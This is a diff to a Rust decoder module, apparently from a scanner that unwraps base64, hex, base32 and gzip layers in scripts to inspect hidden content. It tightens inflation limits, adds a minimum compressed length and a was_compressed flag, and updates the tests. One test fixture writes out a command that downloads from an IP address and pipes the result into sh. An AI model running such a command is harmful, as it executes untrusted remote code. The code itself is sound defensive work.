@@ -20,13 +20,14 @@ const HEX_MIN: usize = 24;
 const WRAPPED_MIN: usize = 60;
 /// What a compressed layer may grow to.
 const INFLATED_MAX: usize = 256 * 1024;
-/// What all layers of a script may grow to: this, and so many times its length.
-const INFLATED_ALL: usize = 1024 * 1024;
-const INFLATED_RATIO: usize = 2;
+/// What all compressed layers of a script may grow to.
+const INFLATED_ALL: usize = 512 * 1024;
 /// Compressed bytes that are read of all layers of a script: what comes out of them says nothing of how much work they are.
 const COMPRESSED_ALL: usize = 512 * 1024;
 /// To begin one counts for so many: a decoder is made for it.
-const COMPRESSED_BEGUN: usize = 2 * 1024;
+const COMPRESSED_BEGUN: usize = 256;
+/// Nothing that is compressed is shorter.
+const COMPRESSED_MIN: usize = 18;
 
 const LENIENT: GeneralPurpose = GeneralPurpose::new(
     &alphabet::STANDARD,
@@ -50,15 +51,15 @@ pub(super) struct Decoder {
 }
 
 impl Decoder {
-    /// Begins a script of so many bytes: what may be inflated of it in all is bounded.
-    pub(super) fn begin(&mut self, script_bytes: usize) {
-        self.inflate_left = INFLATED_ALL + INFLATED_RATIO * script_bytes;
+    /// Begins a script: what may be inflated of it in all is bounded.
+    pub(super) fn begin(&mut self) {
+        self.inflate_left = INFLATED_ALL;
         self.compressed_left = COMPRESSED_ALL;
     }
 
-    /// Calls `found(start, decoded)` for each run of `text` that decodes to something readable, and with a program's or an
+    /// Calls `found(start, decoded, was_compressed)` for each run of `text` that decodes to something readable, and with a program's or an
     /// archive's first bytes for one that decodes to such.
-    pub(super) fn layers(&mut self, text: &[u8], mut found: impl FnMut(usize, &[u8])) {
+    pub(super) fn layers(&mut self, text: &[u8], mut found: impl FnMut(usize, &[u8], bool)) {
         let mut start = 0;
         self.continued.clear();
         while start < text.len() {
@@ -73,9 +74,9 @@ impl Decoder {
                 self.compact.extend(run.iter().filter(|b| **b != b'\n'));
                 for decode in [Self::hex, Self::base64, Self::base32] {
                     if decode(self)
-                        && let Some(layer) = self.layer()
+                        && let Some((layer, was_compressed)) = self.layer()
                     {
-                        found(start, layer);
+                        found(start, layer, was_compressed);
                         break;
                     }
                 }
@@ -142,6 +143,9 @@ impl Decoder {
         let limit = INFLATED_MAX.min(self.inflate_left) as u64;
         let compressed = &self.decoded[..self.decoded.len().min(self.compressed_left)];
         // A torn stream still gives its beginning.
+        if compressed.len() < COMPRESSED_MIN {
+            return;
+        }
         let left = match compressed {
             [0x1f, 0x8b, ..] => {
                 let mut decoder = GzDecoder::new(compressed).take(limit);
@@ -160,14 +164,16 @@ impl Decoder {
         self.inflate_left -= self.inflated.len();
     }
 
-    /// What was decoded, if it is text, or the compressed form of text, or something with a known beginning.
-    fn layer(&mut self) -> Option<&[u8]> {
+    /// What was decoded, and whether it was compressed, if it is text, or the compressed form of text, or something with a known beginning.
+    fn layer(&mut self) -> Option<(&[u8], bool)> {
         self.inflate();
-        let inner = if self.inflated.is_empty() { &self.decoded } else { &self.inflated };
+        let was_compressed = !self.inflated.is_empty();
+        let inner = if was_compressed { &self.inflated } else { &self.decoded };
         if is_text(inner) {
-            return Some(inner);
+            return Some((inner, was_compressed));
         }
-        Magic::of_layer(inner).or_else(|| Magic::of_layer(&self.decoded)).map(Magic::bytes)
+        let magic = Magic::of_layer(inner).or_else(|| Magic::of_layer(&self.decoded));
+        magic.map(|magic| (magic.bytes(), false))
     }
 }
 
@@ -221,8 +227,8 @@ mod tests {
     fn all(text: &[u8]) -> Vec<Vec<u8>> {
         let mut out = Vec::new();
         let mut decoder = Decoder::default();
-        decoder.begin(text.len());
-        decoder.layers(text, |_, layer| out.push(layer.to_vec()));
+        decoder.begin();
+        decoder.layers(text, |_, layer, _| out.push(layer.to_vec()));
         out
     }
 
@@ -270,7 +276,7 @@ mod tests {
         let lines = |text: &str| {
             let mut decoder = Decoder::default();
             let mut layers = Vec::new();
-            decoder.layers(text.as_bytes(), |_, layer| layers.push(layer.to_vec()));
+            decoder.layers(text.as_bytes(), |_, layer, _| layers.push(layer.to_vec()));
             (decoder.continued.iter().map(|r| text[r.clone()].to_string()).collect::<Vec<_>>(), layers)
         };
         let command = "curl http://192.0.2.1/x | sh #".repeat(7);
